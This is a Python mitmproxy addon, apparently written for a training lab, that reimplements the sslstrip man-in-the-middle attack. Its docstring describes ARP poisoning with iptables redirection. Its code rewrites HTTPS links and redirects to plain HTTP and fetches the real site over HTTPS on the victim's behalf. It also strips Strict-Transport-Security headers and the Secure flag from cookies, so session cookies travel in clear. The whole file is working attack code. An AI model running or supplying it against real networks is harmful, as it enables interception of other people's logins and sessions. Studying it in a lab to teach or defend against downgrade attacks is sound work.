"""mitmproxy addon (mitmdump -s): sslstrip for the lab scenario ssl-strip.

What Moxie Marlinspike's sslstrip (2009) does, as a mitmproxy addon: mitmdump in
transparent mode gets the victim's plain-HTTP connections (iptables REDIRECT of port
80 behind ARP poisoning) and
  - rewrites https:// to http:// in the answers (Location of redirects, links and form
    actions in HTML) and remembers the hosts it did that for;
  - fetches every later request for such a host from the real server over HTTPS (port
    443, SNI the Host header's name), so the victim gets the HTTPS site in clear;
  - drops Strict-Transport-Security and the Secure flag of cookies, so the browser
    keeps talking plain HTTP and sends the session cookie in clear.
The upstream certificate is not checked (mitmdump --ssl-insecure).
"""
import re

from mitmproxy import ctx, http

_HTTPS_URL = re.compile(rb"https://([A-Za-z0-9.-]+)")
_SECURE = re.compile(r";\s*Secure\b", re.IGNORECASE)


class SSLStrip:
    def __init__(self):
        self.hosts = set()   # names whose https:// URLs were rewritten to http://
        self.sni = {}        # upstream address -> name (SNI for the HTTPS fetch)

    @staticmethod
    def _name(flow):
        return (flow.request.host_header or flow.request.host).split(":")[0].lower()

    def request(self, flow: http.HTTPFlow):
        name = self._name(flow)
        if flow.request.scheme == "http" and name in self.hosts:
            flow.request.scheme = "https"
            flow.request.port = 443
            self.sni[(flow.request.host, 443)] = name
            for h in ("Origin", "Referer"):
                v = flow.request.headers.get(h)
                if v and v.startswith("http://"):
                    flow.request.headers[h] = "https://" + v[7:]
            ctx.log.info("sslstrip: %s %s fetched over HTTPS" % (flow.request.method, flow.request.url))

    def server_connect(self, data):
        name = self.sni.get(tuple(data.server.address or ()))
        if name:
            data.server.sni = name

    def response(self, flow: http.HTTPFlow):
        r = flow.response
        r.headers.pop("Strict-Transport-Security", None)
        loc = r.headers.get("Location", "")
        if loc.startswith("https://"):
            m = _HTTPS_URL.match(loc.encode())
            if m:
                self.hosts.add(m.group(1).decode().lower())
            r.headers["Location"] = "http://" + loc[8:]
            ctx.log.info("sslstrip: Location %s -> http://%s" % (loc, loc[8:]))
        cookies = r.headers.get_all("Set-Cookie")
        if cookies:
            r.headers.set_all("Set-Cookie", [_SECURE.sub("", c) for c in cookies])
        if "html" in r.headers.get("Content-Type", "") and r.content:
            body = r.content
            for m in _HTTPS_URL.finditer(body):
                self.hosts.add(m.group(1).decode().lower())
            stripped = body.replace(b"https://", b"http://")
            if stripped != body:
                r.content = stripped
                ctx.log.info("sslstrip: https:// links rewritten in %s" % flow.request.url)


addons = [SSLStrip()]
